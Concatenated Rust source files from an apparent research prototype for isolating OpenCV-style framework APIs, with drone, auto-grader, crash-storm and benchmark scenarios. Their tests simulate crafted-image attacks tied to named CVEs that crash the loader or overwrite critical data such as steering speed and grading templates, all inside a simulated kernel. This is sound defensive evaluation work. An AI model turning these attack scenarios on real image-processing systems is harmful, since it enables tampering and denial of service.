    pub speed_original: Vec<u8>,
    /// Frames fully processed into steering commands.
    pub frames_processed: u32,
    /// Frames lost to containment events.
    pub frames_lost: u32,
    /// True when the control loop stayed alive for the whole mission —
    /// the drone never falls out of the sky.
    pub control_loop_alive: bool,
    /// Steering commands issued (speed × detection direction).
    pub commands: Vec<f64>,
}

/// Flies the mission under any isolation scheme.
pub fn run(surface: &mut dyn ApiSurface, cfg: &DroneConfig) -> DroneResult {
    if surface.kernel().camera.is_none() {
        // Logged attach: the camera seed lands in the commit log, so a
        // recorded mission replays frame-identical.
        surface
            .kernel_mut()
            .attach_camera(77, freepart_frameworks::exec::CAMERA_FRAME_LEN);
    }
    let speed_original = 0.3f64.to_le_bytes().to_vec();
    let speed = surface.host_data("self.speed", &speed_original);
    surface.finish_setup();

    let mut result = DroneResult {
        speed,
        speed_original,
        frames_processed: 0,
        frames_lost: 0,
        control_loop_alive: true,
        commands: Vec::new(),
    };

    let capture = match surface.call("cv2.VideoCapture", &[Value::I64(0)]) {
        Ok(c) => c,
        Err(_) => {
            result.control_loop_alive = surface.kernel().is_running(surface.host_pid());
            return result;
        }
    };

    for frame_idx in 0..cfg.frames {
        surface.trace_mark(&format!("drone:frame {frame_idx}"));
        // 1. Grab a frame and stage it to disk (the project's pattern:
        //    camera → file → imread).
        let staged = format!("/drone/frame-{frame_idx}.simg");
        let ok = (|| -> Result<(), CallError> {
            let frame = surface.call("cv2.VideoCapture.read", std::slice::from_ref(&capture))?;
            surface.call("cv2.imwrite", &[Value::Str(staged.clone()), frame])?;
            Ok(())
        })();
        if ok.is_err() {
            result.frames_lost += 1;
            continue;
        }
        // An attacker on the image path swaps in a crafted file.
        if let Some((at, payload)) = &cfg.evil_frame {
            if *at == frame_idx {
                let img = freepart_frameworks::image::Image::new(16, 16, 3);
                surface.kernel_mut().fs_put(
                    &staged,
                    freepart_frameworks::fileio::encode_image(&img, Some(payload)),
                );
            }
        }
        // 2. Load + detect.
        let detection = (|| -> Result<f64, CallError> {
            let img = surface.call("cv2.imread", &[Value::Str(staged.clone())])?;
            let gray = surface.call("cv2.cvtColor", &[img])?;
            let hits = surface.call("cv2.findContours", &[gray])?;
            Ok(match hits {
                Value::Rects(r) => r.len() as f64,
                _ => 0.0,
            })
        })();
        match detection {
            Ok(direction) => {
                // 3. Control: host reads self.speed and steers. This is
                //    the part that must survive any framework exploit.
                let bytes = surface.fetch_bytes(speed).unwrap_or_default();
                let speed_now = bytes
                    .get(..8)
                    .map(|b| f64::from_le_bytes([b[0], b[1], b[2], b[3], b[4], b[5], b[6], b[7]]))
                    .unwrap_or(0.0);
                result.commands.push(speed_now * direction.max(0.2));
                result.frames_processed += 1;
            }
            Err(_) => {
                result.frames_lost += 1;
            }
        }
        if !surface.kernel().is_running(surface.host_pid()) {
            result.control_loop_alive = false;
            break;
        }
    }
    result
}

#[cfg(test)]
mod tests {
    use super::*;
    use freepart::{Policy, Runtime};
    use freepart_attacks::payloads;
    use freepart_baselines::MonolithicRuntime;
    use freepart_frameworks::registry::standard_registry;

    #[test]
    fn benign_mission_tracks_every_frame() {
        let mut rt = MonolithicRuntime::original(standard_registry());
        let r = run(
            &mut rt,
            &DroneConfig {
                frames: 5,
                evil_frame: None,
            },
        );
        assert_eq!(r.frames_processed, 5);
        assert!(r.control_loop_alive);
        assert!(r.commands.iter().all(|c| *c > 0.0), "positive steering");
    }

    #[test]
    fn dos_attack_downs_the_original_drone() {
        let mut rt = MonolithicRuntime::original(standard_registry());
        let cfg = DroneConfig {
            frames: 5,
            evil_frame: Some((2, payloads::dos("CVE-2017-14136"))),
        };
        let r = run(&mut rt, &cfg);
        assert!(!r.control_loop_alive, "the whole drone program crashed");
        assert!(r.frames_processed < 5);
    }

    #[test]
    fn freepart_drone_survives_dos_and_keeps_flying() {
        let mut rt = Runtime::install(standard_registry(), Policy::freepart());
        let cfg = DroneConfig {
            frames: 5,
            evil_frame: Some((2, payloads::dos("CVE-2017-14136"))),
        };
        let r = run(&mut rt, &cfg);
        assert!(r.control_loop_alive, "control loop unaffected");
        // The poisoned frame is lost; the rest get processed after the
        // loading agent restarts.
        assert_eq!(r.frames_processed, 4);
        assert_eq!(r.frames_lost, 1);
    }

    #[test]
    fn speed_corruption_reverses_original_but_not_freepart() {
        // Original: attacker flips self.speed to -0.3.
        let mut rt = MonolithicRuntime::original(standard_registry());
        let addr = {
            let mut probe = MonolithicRuntime::original(standard_registry());
            let r = run(
                &mut probe,
                &DroneConfig {
                    frames: 0,
                    evil_frame: None,
                },
            );
            probe.objects.meta(r.speed).unwrap().buffer.unwrap().0
        };
        let evil_speed = (-0.3f64).to_le_bytes().to_vec();
        let cfg = DroneConfig {
            frames: 4,
            evil_frame: Some((
                1,
                payloads::corrupt("CVE-2017-12606", addr.0, evil_speed.clone()),
            )),
        };
        let r = run(&mut rt, &cfg);
        assert!(
            r.commands.iter().any(|c| *c < 0.0),
            "drone steered away from the target: {:?}",
            r.commands
        );

        // FreePart: the write lands in the loading agent's address space
        // and faults; steering stays positive.
        let mut rt = Runtime::install(standard_registry(), Policy::freepart());
        let addr = {
            let mut probe = Runtime::install(standard_registry(), Policy::freepart());
            let r = run(
                &mut probe,
                &DroneConfig {
                    frames: 0,
                    evil_frame: None,
                },
            );
            probe.objects.meta(r.speed).unwrap().buffer.unwrap().0
        };
        let cfg = DroneConfig {
            frames: 4,
            evil_frame: Some((1, payloads::corrupt("CVE-2017-12606", addr.0, evil_speed))),
        };
        let r = run(&mut rt, &cfg);
        assert!(r.control_loop_alive);
        assert!(
            r.commands.iter().all(|c| *c > 0.0),
            "steering unaffected: {:?}",
            r.commands
        );
    }
}
