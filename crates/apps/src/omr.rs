//! OMRChecker — the paper's motivating example (§3), hand-written.
//!
//! An auto-grader: loads a `template` (answer-mark coordinates) and an
//! answer key at startup, then per submission image runs
//! `imread → cvtColor → GaussianBlur → threshold → warpPerspective →
//! morphologyEx → findContours`, annotates every detected mark with
//! `rectangle`/`putText` (the hot-loop pair of Fig. 4), shows a preview,
//! and finally writes a scores CSV.
//!
//! The attack surface matches Fig. 1: a crafted submission exploits
//! `imread` (`CVE-2017-12597` to corrupt `template`, `CVE-2017-14136`
//! to crash) and a second vulnerability targets `imshow`.

use freepart::CallError;
use freepart_baselines::ApiSurface;
use freepart_frameworks::api::{ApiId, ApiRegistry, ApiType};
use freepart_frameworks::image::Image;
use freepart_frameworks::{fileio, ExploitPayload, ObjectId, Value};

/// The 86 framework APIs of the motivating example (Table 2: 3 loading,
/// 75 processing, 6 visualizing, 2 storing).
pub fn omr_universe(reg: &ApiRegistry) -> Vec<ApiId> {
    let mut out = Vec::new();
    // 3 data-loading APIs: cv2.imread, pd.read_csv, json.load.
    for n in ["cv2.imread", "pd.read_csv", "json.load"] {
        out.push(reg.id_of(n).expect("catalog API"));
    }
    // 75 data-processing APIs: the OpenCV processing surface.
    let mut dp: Vec<ApiId> = reg
        .of_framework(freepart_frameworks::Framework::OpenCv)
        .iter()
        .filter(|s| s.declared_type == ApiType::DataProcessing)
        .map(|s| s.id)
        .collect();
    dp.truncate(75);
    out.extend(dp);
    // 6 visualizing APIs.
    for n in [
        "cv2.imshow",
        "cv2.moveWindow",
        "cv2.namedWindow",
        "cv2.pollKey",
        "cv2.destroyAllWindows",
        "plt.show",
    ] {
        out.push(reg.id_of(n).expect("catalog API"));
    }
    // 2 storing APIs.
    for n in ["cv2.imwrite", "plt.savefig"] {
        out.push(reg.id_of(n).expect("catalog API"));
    }
    out
}

/// Configuration of one grading run.
#[derive(Debug, Clone, Default)]
pub struct OmrConfig {
    /// Number of submission images to grade.
    pub samples: u32,
    /// Marks (rectangle/putText annotations) per submission.
    pub boxes_per_sample: u32,
    /// Optional crafted submission: `(index, payload)`.
    pub evil_sample: Option<(u32, ExploitPayload)>,
    /// Optional crafted preview attack on `imshow`.
    pub evil_imshow: Option<ExploitPayload>,
}

impl OmrConfig {
    /// A small benign grading batch.
    pub fn benign(samples: u32) -> OmrConfig {
        OmrConfig {
            samples,
            boxes_per_sample: 6,
            ..OmrConfig::default()
        }
    }
}

/// Outcome of one grading run.
#[derive(Debug)]
pub struct OmrResult {
    /// The `template` critical object.
    pub template: ObjectId,
    /// Pristine template bytes (for corruption judgment).
    pub template_original: Vec<u8>,
    /// Submissions fully graded.
    pub completed: u32,
    /// Per-sample scores computed from recognized marks.
    pub scores: Vec<f64>,
    /// Call errors encountered (containment events under attack).
    pub errors: Vec<CallError>,
    /// Whether the scores CSV was written.
    pub results_written: bool,
}

pub(crate) fn submission_image(sample: u32) -> Image {
    let mut img = Image::new(48, 48, 3);
    // Answer marks: filled squares whose positions depend on the sample.
    for b in 0..4u32 {
        let x0 = 4 + (b * 11) % 36;
        let y0 = 6 + (sample * 7 + b * 13) % 36;
        for y in y0..(y0 + 4).min(48) {
            for x in x0..(x0 + 4).min(48) {
                for c in 0..3 {
                    img.put(x, y, c, 250);
                }
            }
        }
    }
    img
}

/// Runs the grader under any isolation scheme.
pub fn run(surface: &mut dyn ApiSurface, cfg: &OmrConfig) -> OmrResult {
    // ---- initialization (template + key, Fig. 3's first phase) ----
    let template_bytes: Vec<u8> = (0..16_384u32).map(|i| (i * 3 % 251) as u8).collect();
    let template = surface.host_data("template", &template_bytes);
    surface.host_data("answer_key", b"ABCDABCDABCDABCD");
    surface.finish_setup();

    // Configuration files loaded through hooked APIs.
    surface
        .kernel_mut()
        .fs
        .put("/omr/template.json", b"{\"qblocks\": 16}".to_vec());
    surface.kernel_mut().fs.put(
        "/omr/roster.csv",
        fileio::encode_csv(&[vec![1.0], vec![2.0]]),
    );
    let mut errors = Vec::new();
    let mut scores = Vec::new();
    let mut completed = 0;
    let mut call = |s: &mut dyn ApiSurface, name: &str, args: &[Value]| -> Option<Value> {
        match s.call(name, args) {
            Ok(v) => Some(v),
            Err(e) => {
                errors.push(e);
                None
            }
        }
    };
    call(surface, "json.load", &[Value::from("/omr/template.json")]);
    let roster = call(surface, "pd.read_csv", &[Value::from("/omr/roster.csv")]);

    // ---- grading loop ----
    for sample in 0..cfg.samples {
        surface.trace_mark(&format!("omr:sample {sample}"));
        let path = format!("/omr/submission-{sample}.simg");
        let img = submission_image(sample);
        let payload = match &cfg.evil_sample {
            Some((at, p)) if *at == sample => Some(p),
            _ => None,
        };
        surface
            .kernel_mut()
            .fs
            .put(&path, fileio::encode_image(&img, payload));

        let Some(loaded) = call(surface, "cv2.imread", &[Value::Str(path)]) else {
            continue; // containment event: skip this submission
        };
        let Some(gray) = call(surface, "cv2.cvtColor", &[loaded]) else {
            continue;
        };
        let Some(smooth) = call(surface, "cv2.GaussianBlur", &[gray]) else {
            continue;
        };
        let Some(thresh) = call(surface, "cv2.threshold", &[smooth]) else {
            continue;
        };
        let Some(warped) = call(surface, "cv2.warpPerspective", &[thresh]) else {
            continue;
        };
        let Some(morph) = call(surface, "cv2.morphologyEx", std::slice::from_ref(&warped)) else {
            continue;
        };
        // Rebuild the 3-channel annotation canvas (cv2.merge) — the
        // object the hot-loop pair shares.
        let Some(annotated) = call(surface, "cv2.merge", std::slice::from_ref(&morph)) else {
            continue;
        };
        let marks = call(surface, "cv2.findContours", std::slice::from_ref(&morph));
        let found = match marks {
            Some(Value::Rects(r)) => r.len() as f64,
            _ => 0.0,
        };
        // Host grading logic: each question block consults the (critical)
        // template coordinates — the repeated-access pattern that makes
        // isolated-data schemes pay per access (Fig. 2-b's >800 IPCs).
        let mut acc = 0u64;
        for _block in 0..8 {
            let t = surface.fetch_bytes(template).unwrap_or_default();
            acc += t.first().copied().unwrap_or(0) as u64;
        }
        let score = found * (acc as f64 / 8.0 + 1.0) / 16.0;
        scores.push(score);

        // Hot loop: annotate each mark (Fig. 4's rectangle/putText pair —
        // frequently executed, sharing the warped image).
        for b in 0..cfg.boxes_per_sample {
            let x = (b * 7 % 40) as i64;
            call(
                surface,
                "cv2.rectangle",
                &[
                    annotated.clone(),
                    Value::I64(x),
                    Value::I64(x),
                    Value::I64(6),
                    Value::I64(6),
                ],
            );
            call(
                surface,
                "cv2.putText",
                &[
                    annotated.clone(),
                    Value::from("A"),
                    Value::I64(x),
                    Value::I64(40),
                ],
            );
        }

        // Preview.
        let preview = if let Some(p) = &cfg.evil_imshow {
            // The crafted frame rides through to the visualizer.
            let path = format!("/omr/evil-preview-{sample}.simg");
            surface
                .kernel_mut()
                .fs
                .put(&path, fileio::encode_image(&img, Some(p)));
            call(surface, "cv2.imread", &[Value::Str(path)])
        } else {
            Some(annotated.clone())
        };
        if let Some(pv) = preview {
            call(surface, "cv2.imshow", &[Value::from("omr"), pv]);
        }
        call(surface, "cv2.pollKey", &[]);
        completed += 1;
    }

    // ---- results ----
    // The roster may have died with a crashed agent (the paper's §6
    // state-discrepancy); the application reloads it like any robust
    // program would.
    let mut results_written = false;
    let roster = match roster {
        Some(r)
            if surface
                .objects()
                .meta(r.as_obj().expect("roster is an object"))
                .is_some_and(|m| surface.kernel().is_running(m.home)) =>
        {
            Some(r)
        }
        _ => call(surface, "pd.read_csv", &[Value::from("/omr/roster.csv")]),
    };
    if let Some(r) = roster {
        if call(
            surface,
            "pd.DataFrame.to_csv",
            &[Value::from("/omr/scores.csv"), r],
        )
        .is_some()
        {
            results_written = surface.kernel().fs.exists("/omr/scores.csv");
        }
    }
    OmrResult {
        template,
        template_original: template_bytes,
        completed,
        scores,
        errors,
        results_written,
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use freepart::{Policy, Runtime};
    use freepart_attacks::{judge, AttackGoal, Verdict};
    use freepart_baselines::MonolithicRuntime;
    use freepart_frameworks::registry::standard_registry;

    #[test]
    fn universe_matches_table2_counts() {
        let reg = standard_registry();
        let uni = omr_universe(&reg);
        assert_eq!(uni.len(), 86);
        let count = |t: ApiType| {
            uni.iter()
                .filter(|id| reg.spec(**id).declared_type == t)
                .count()
        };
        assert_eq!(count(ApiType::DataLoading), 3);
        assert_eq!(count(ApiType::DataProcessing), 75);
        assert_eq!(count(ApiType::Visualizing), 6);
        assert_eq!(count(ApiType::Storing), 2);
    }

    #[test]
    fn benign_run_grades_everything() {
        let mut rt = MonolithicRuntime::original(standard_registry());
        let r = run(&mut rt, &OmrConfig::benign(5));
        assert_eq!(r.completed, 5);
        assert_eq!(r.scores.len(), 5);
        assert!(r.errors.is_empty());
        assert!(r.results_written);
        assert!(r.scores.iter().all(|s| *s > 0.0), "marks recognized");
    }

    #[test]
    fn freepart_and_original_produce_identical_scores() {
        let mut orig = MonolithicRuntime::original(standard_registry());
        let a = run(&mut orig, &OmrConfig::benign(4));
        let mut fp = Runtime::install(standard_registry(), Policy::freepart());
        let b = run(&mut fp, &OmrConfig::benign(4));
        assert_eq!(a.scores, b.scores, "isolation must not change grades");
        assert!(b.errors.is_empty());
    }

    #[test]
    fn corruption_attack_succeeds_unprotected_fails_under_freepart() {
        let reg = standard_registry();
        let _ = reg;
        // Unprotected original: the grade-tampering attack of Fig. 1.
        let mut orig = MonolithicRuntime::original(standard_registry());
        // Address of template once created: run setup first via a probe
        // run to learn the address deterministically.
        let probe = run(
            &mut MonolithicRuntime::original(standard_registry()),
            &OmrConfig::benign(0),
        );
        let addr = {
            let mut p = MonolithicRuntime::original(standard_registry());
            let r = run(&mut p, &OmrConfig::benign(0));
            p.objects.meta(r.template).unwrap().buffer.unwrap().0
        };
        let payload = freepart_attacks::payloads::corrupt("CVE-2017-12597", addr.0, vec![0xFF; 32]);
        let cfg = OmrConfig {
            samples: 3,
            boxes_per_sample: 2,
            evil_sample: Some((1, payload.clone())),
            evil_imshow: None,
        };
        let r = run(&mut orig, &cfg);
        let log = orig.exploit_log().to_vec();
        let (kernel, objects, host) = orig.attack_view();
        let verdict = judge(
            &AttackGoal::CorruptObject {
                id: r.template,
                original: r.template_original.clone(),
            },
            kernel,
            objects,
            host,
            &log,
        );
        assert_eq!(verdict, Verdict::Succeeded, "original is corruptible");
        // Scores after corruption differ from clean ones — the grade
        // tampering worked.
        assert_ne!(r.scores[1], probe.scores.first().copied().unwrap_or(-1.0));

        // FreePart: same attack, template survives.
        let mut fp = Runtime::install(standard_registry(), Policy::freepart());
        let addr_fp = {
            let mut p = Runtime::install(standard_registry(), Policy::freepart());
            let r = run(&mut p, &OmrConfig::benign(0));
            p.objects.meta(r.template).unwrap().buffer.unwrap().0
        };
        let cfg = OmrConfig {
            samples: 3,
            boxes_per_sample: 2,
            evil_sample: Some((
                1,
                freepart_attacks::payloads::corrupt("CVE-2017-12597", addr_fp.0, vec![0xFF; 32]),
            )),
            evil_imshow: None,
        };
        let r = run(&mut fp, &cfg);
        let log = fp.exploit_log.clone();
        let (kernel, objects, host) = fp.attack_view();
        let verdict = judge(
            &AttackGoal::CorruptObject {
                id: r.template,
                original: r.template_original.clone(),
            },
            kernel,
            objects,
            host,
            &log,
        );
        assert_eq!(verdict, Verdict::Prevented, "FreePart protects template");
        // The corrupting write faulted and killed the loading agent, so
        // the malicious submission itself is lost; the two honest ones
        // are graded.
        assert_eq!(r.completed, 2, "honest submissions still graded");
    }

    #[test]
    fn dos_attack_kills_original_but_not_freepart_host() {
        let payload = freepart_attacks::payloads::dos("CVE-2017-14136");
        let cfg = OmrConfig {
            samples: 4,
            boxes_per_sample: 2,
            evil_sample: Some((1, payload)),
            evil_imshow: None,
        };
        let mut orig = MonolithicRuntime::original(standard_registry());
        let r = run(&mut orig, &cfg);
        assert!(r.completed < 4, "original dies mid-batch");
        assert!(!orig.kernel.is_running(orig.host_pid()));

        let mut fp = Runtime::install(standard_registry(), Policy::freepart());
        let r = run(&mut fp, &cfg);
        assert!(fp.kernel.is_running(fp.host_pid()));
        // With restart, only the malicious submission is lost.
        assert_eq!(r.completed, 3);
        assert!(r.results_written);
    }
}
