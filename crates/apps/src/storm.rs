//! Crash-storm scenario: an adversary crashes the image-loading
//! partition in a loop while healthy traffic keeps flowing elsewhere.
//!
//! Each round interleaves three flows:
//!
//! 1. a **healthy chain** — `findContours` then `cvtColor` re-applied
//!    to the chain's own output; the processing-typed call keeps the
//!    framework state (and with it the type-neutral `cvtColor`) pinned
//!    to the processing partition, off the attacked one;
//! 2. a **stateful capture read** — the exactly-once probe: every `Ok`
//!    must map 1:1 onto a camera frame actually served, crashes and
//!    journal replays included (`inject_crash_before_response` fires
//!    periodically to force the replay window);
//! 3. the **adversary** — an `imread` of a crafted file riding the
//!    drone DoS CVE, which kills the loading agent mid-call.
//!
//! Under a supervised policy the storm drains the partition's restart
//! budget; the partition degrades to fail-fast errors, the denial is
//! audited, and the other partitions never notice. The run is judged by
//! [`freepart_attacks::judge_storm`] against a baseline run without the
//! adversary.

use freepart::{Policy, Runtime};
use freepart_attacks::{judge_storm, payloads, StormVerdicts};
use freepart_baselines::ApiSurface;
use freepart_frameworks::registry::standard_registry;
use freepart_frameworks::{fileio, image::Image, Value};
use freepart_simos::Camera;

/// The CVE the adversary rides (the drone case study's DoS bug in the
/// image loader).
pub const STORM_CVE: &str = "CVE-2017-14136";

/// Crash-storm configuration.
#[derive(Debug, Clone)]
pub struct StormConfig {
    /// Rounds of interleaved traffic.
    pub rounds: u32,
    /// Inject a crash-after-execution (journal-replay window) on the
    /// loading partition every this-many rounds; `0` disables.
    pub crash_every: u32,
    /// Whether the adversary runs (off = the baseline run).
    pub adversary: bool,
    /// Runtime policy (the interesting ones: `restart_budget`,
    /// `warm_spares`, `batch_window`).
    pub policy: Policy,
}

/// What one storm (or baseline) run observed.
#[derive(Debug, Clone)]
pub struct StormRun {
    /// Capture reads that returned `Ok` to the application.
    pub successful_reads: u64,
    /// Healthy-chain calls that completed.
    pub healthy_ok: u64,
    /// p99 virtual-ns latency of the healthy `cvtColor` traffic.
    pub healthy_p99_ns: u64,
    /// Agent restarts the supervisor performed.
    pub restarts: u64,
    /// Partitions degraded to fail-fast by the supervisor.
    pub degraded: Vec<freepart::PartitionId>,
    /// True when a `RestartDenied` audit record was written.
    pub restart_denied_audited: bool,
    /// Camera frames actually served (ground truth).
    pub frames_served: u64,
    /// Virtual makespan of the run.
    pub makespan_ns: u64,
}

/// Runs one storm (or baseline, with `adversary: false`) pass.
pub fn run_crash_storm(cfg: &StormConfig) -> StormRun {
    let mut rt = Runtime::install(standard_registry(), cfg.policy.clone());
    rt.enable_tracing();
    rt.kernel.camera = Some(Camera::new(77, freepart_frameworks::exec::CAMERA_FRAME_LEN));
    let ok_img = Image::new(16, 16, 3);
    rt.kernel
        .fs
        .put("/storm/ok.simg", fileio::encode_image(&ok_img, None));
    let payload = payloads::dos(STORM_CVE);
    rt.kernel.fs.put(
        "/storm/evil.simg",
        fileio::encode_image(&Image::new(16, 16, 3), Some(&payload)),
    );
    rt.finish_setup();

    // The partition the adversary attacks: wherever `imread` routes.
    let imread = rt
        .registry()
        .id_of("cv2.imread")
        .expect("imread in catalog");
    let loading = rt.partition_of(imread);

    // Setup: a live capture plus the healthy chain's seed object. Each
    // round's leading `findContours` migrates the chain payload off the
    // loading partition; every later hop chains on its own output.
    let capture = rt
        .call("cv2.VideoCapture", &[Value::I64(0)])
        .expect("capture opens");
    let seed = rt
        .call("cv2.imread", &[Value::Str("/storm/ok.simg".into())])
        .expect("benign image loads");
    let mut cur = rt.call("cv2.cvtColor", &[seed]).expect("first hop");

    let mut run = StormRun {
        successful_reads: 0,
        healthy_ok: 0,
        healthy_p99_ns: 0,
        restarts: 0,
        degraded: Vec::new(),
        restart_denied_audited: false,
        frames_served: 0,
        makespan_ns: 0,
    };

    for round in 0..cfg.rounds {
        rt.trace_mark(&format!("storm:round {round}"));
        // 1. Healthy traffic, chained so it stays off `loading`:
        //    `findContours` (processing-typed) moves the framework state
        //    — and, via LDC, the chained payload — to the processing
        //    partition first, so the type-neutral `cvtColor` colocates
        //    there rather than with the attacked loading context.
        if rt
            .call("cv2.findContours", std::slice::from_ref(&cur))
            .is_ok()
        {
            run.healthy_ok += 1;
        }
        if let Ok(next) = rt.call("cv2.cvtColor", std::slice::from_ref(&cur)) {
            cur = next;
            run.healthy_ok += 1;
        }
        // 2. The exactly-once probe. Periodically crash the loading
        //    agent *after* execution but before the response: the frame
        //    is served exactly once and must come back via journal
        //    replay after the restart.
        if cfg.crash_every > 0 && round % cfg.crash_every == cfg.crash_every - 1 {
            rt.inject_crash_before_response(loading);
        }
        if rt
            .call("cv2.VideoCapture.read", std::slice::from_ref(&capture))
            .is_ok()
        {
            run.successful_reads += 1;
        }
        // 3. The adversary: a crafted file that kills the loader
        //    mid-call, over and over. Expected to fail; what matters is
        //    what each failure costs the supervisor.
        if cfg.adversary {
            let _ = rt.call("cv2.imread", &[Value::Str("/storm/evil.simg".into())]);
        }
    }

    run.restarts = rt.stats().restarts;
    run.degraded = rt.degraded_partitions();
    run.restart_denied_audited = rt
        .tracer()
        .audit_log()
        .iter()
        .any(|r| matches!(r, freepart::AuditRecord::RestartDenied { .. }));
    run.frames_served = rt.kernel.camera.as_ref().map_or(0, Camera::frames_served);
    run.makespan_ns = rt.kernel.makespan_ns();
    // Healthy p99: the cvtColor row with the most completed calls (the
    // chain's steady-state partition).
    let cvt = rt
        .registry()
        .id_of("cv2.cvtColor")
        .expect("cvtColor in catalog");
    run.healthy_p99_ns = rt
        .tracer()
        .stats()
        .iter()
        .filter(|((_, api), _)| *api == cvt)
        .max_by_key(|(_, s)| s.calls)
        .map_or(0, |(_, s)| s.latency.quantile(0.99));
    // Exactly-once sanity inside the run itself, before any judging.
    debug_assert!(run.frames_served >= run.successful_reads);
    run
}

/// Runs the storm and its adversary-free baseline under the same policy
/// and judges the three verdicts.
pub fn judge_crash_storm(cfg: &StormConfig) -> (StormRun, StormRun, StormVerdicts) {
    let baseline = run_crash_storm(&StormConfig {
        adversary: false,
        ..cfg.clone()
    });
    let storm = run_crash_storm(&StormConfig {
        adversary: true,
        ..cfg.clone()
    });
    let verdicts = judge_with(&storm, &baseline);
    (baseline, storm, verdicts)
}

fn judge_with(storm: &StormRun, baseline: &StormRun) -> StormVerdicts {
    // `judge_storm` reads the camera from a kernel; reconstruct an
    // equivalent one from the recorded ground truth so judgment stays in
    // the attacks crate.
    let mut k = freepart_simos::Kernel::new();
    let mut cam = Camera::new(0, 1);
    for _ in 0..storm.frames_served {
        let _ = cam.capture();
    }
    k.camera = Some(cam);
    judge_storm(
        &k,
        storm.successful_reads,
        storm.healthy_p99_ns,
        baseline.healthy_p99_ns,
        !storm.degraded.is_empty() && storm.restart_denied_audited,
    )
}

#[cfg(test)]
mod tests {
    use super::*;
    use freepart::RestartBudget;

    fn supervised() -> Policy {
        Policy {
            batch_window: Some(Policy::DEFAULT_BATCH_WINDOW),
            restart_budget: Some(RestartBudget::default()),
            warm_spares: 2,
            ..Policy::freepart()
        }
    }

    #[test]
    fn storm_is_absorbed_under_supervision() {
        let cfg = StormConfig {
            rounds: 24,
            crash_every: 5,
            adversary: true,
            policy: supervised(),
        };
        let (baseline, storm, verdicts) = judge_crash_storm(&cfg);
        // Baseline: no restarts, nothing degraded, every read lands.
        assert_eq!(baseline.degraded, vec![]);
        assert_eq!(baseline.frames_served, baseline.successful_reads);
        // Storm: the budget ran out, the partition degraded, the denial
        // was audited — and all three verdicts went the defender's way.
        assert!(storm.restarts > 0, "the supervisor did respawn at first");
        assert!(!storm.degraded.is_empty(), "then degraded the partition");
        assert!(storm.restart_denied_audited);
        assert!(verdicts.all_prevented(), "{verdicts:?}");
        // Healthy traffic kept flowing every round.
        assert_eq!(storm.healthy_ok, baseline.healthy_ok);
    }

    #[test]
    fn unbudgeted_storm_is_not_detected() {
        let cfg = StormConfig {
            rounds: 12,
            crash_every: 0,
            adversary: true,
            policy: Policy::freepart(),
        };
        let (_, storm, verdicts) = judge_crash_storm(&cfg);
        // Without a budget the respawn loop just spins: no degradation,
        // no audit record — the DoS-detection verdict goes the
        // attacker's way even though replay still holds.
        assert!(storm.degraded.is_empty());
        assert!(verdicts.exactly_once.prevented());
        assert!(!verdicts.dos_detected.prevented());
    }
}
