//! Adversarial workload mixes for the adaptive-policy benchmark.
//!
//! No single static preset optimizes all of these: `tiny-chatty` is a
//! burst of sub-kilobyte draw calls where batching wins and shm
//! promotion never pays; `bulk-frames` pushes multi-kilobyte images
//! through the filter chain, where zero-copy promotion wins; `mixed`
//! interleaves the two every round; `phase-shift` flips character
//! mid-run, so a controller tuned on the first half must re-decide for
//! the second. The `adaptive` bench bin runs every mix under every
//! static preset *and* under [`Policy::freepart_adaptive`], through
//! this one driver, and asserts the controller matches or beats each
//! preset while producing byte-identical digests.
//!
//! Like [`crate::batched`], the driver submits through the
//! asynchronous interface (`call_async` + `promise`, retiring only at
//! [`Runtime::drain_inflight`]) so same-partition bursts can coalesce
//! when a batch window — static or controller-picked — is open. Under
//! an unbatched policy the identical call sequence simply rides one
//! frame per call. Either way the digest is a pure function of the mix,
//! never of the policy.
//!
//! [`Policy::freepart_adaptive`]: freepart::Policy::freepart_adaptive

use freepart::{CallError, Runtime};
use freepart_frameworks::image::Image;
use freepart_frameworks::{fileio, Value};

/// One homogeneous stretch of a workload mix.
#[derive(Clone, Copy)]
pub enum MixPhase {
    /// Tiny chatty rounds: one 8×8 canvas load, then `draws`
    /// rectangle/putText pairs on it — sub-kilobyte payloads at a high
    /// call rate.
    Chatty {
        /// Rectangle/putText pairs drawn per round.
        draws: u32,
    },
    /// Bulk rounds: one `side`×`side`×3 frame through the
    /// load → filter → threshold → contours chain — multi-kilobyte
    /// payloads at a low call rate.
    Bulk {
        /// Frame edge length in pixels (payload is `side·side·3`).
        side: u32,
    },
}

/// A named sequence of `(rounds, phase)` stretches, run in order.
pub struct Mix {
    /// Stable display name (lands in `BENCH_adaptive.json`).
    pub name: &'static str,
    /// The stretches, each repeated for its round count.
    pub phases: Vec<(u32, MixPhase)>,
}

/// The four mixes the `adaptive` bench sweeps.
pub fn standard_mixes() -> Vec<Mix> {
    let chatty = MixPhase::Chatty { draws: 24 };
    let bulk = MixPhase::Bulk { side: 80 };
    vec![
        Mix {
            name: "tiny-chatty",
            phases: vec![(12, chatty)],
        },
        Mix {
            name: "bulk-frames",
            phases: vec![(12, bulk)],
        },
        Mix {
            name: "mixed",
            phases: (0..6).flat_map(|_| [(1, chatty), (1, bulk)]).collect(),
        },
        Mix {
            name: "phase-shift",
            phases: vec![(6, chatty), (6, bulk)],
        },
    ]
}

/// What a mix run produced: enough to compare two runs byte-for-byte.
#[derive(Debug, PartialEq)]
pub struct MixResult {
    /// Rounds that ran to completion.
    pub completed: u32,
    /// Per-round detection counts — the "scores" that must be
    /// byte-identical across policies.
    pub digest: Vec<f64>,
    /// Contained per-call failures (none on these benign mixes).
    pub errors: Vec<CallError>,
}

/// Submits one hooked call asynchronously and peeks at its outcome
/// without retiring it (see [`crate::batched`]).
fn acall(
    rt: &mut Runtime,
    errors: &mut Vec<CallError>,
    name: &str,
    args: &[Value],
) -> Option<Value> {
    match rt.call_async(name, args).and_then(|h| rt.promise(h)) {
        Ok(v) => Some(v),
        Err(e) => {
            errors.push(e);
            None
        }
    }
}

/// A deterministic patterned frame: content varies with `round` so
/// detection counts are data-dependent, not constant.
fn frame(round: u32, side: u32) -> Image {
    let bytes = (0..side * side * 3)
        .map(|i| ((i * 7 + round * 13) % 251) as u8)
        .collect();
    Image::from_bytes(side, side, 3, bytes)
}

fn detect(
    rt: &mut Runtime,
    errors: &mut Vec<CallError>,
    digest: &mut Vec<f64>,
    target: &Value,
    bonus: f64,
) {
    let marks = acall(rt, errors, "cv2.findContours", std::slice::from_ref(target));
    let found = match marks {
        Some(Value::Rects(r)) => r.len() as f64,
        _ => 0.0,
    };
    digest.push(found + bonus);
}

fn chatty_round(
    rt: &mut Runtime,
    errors: &mut Vec<CallError>,
    digest: &mut Vec<f64>,
    round: u32,
    draws: u32,
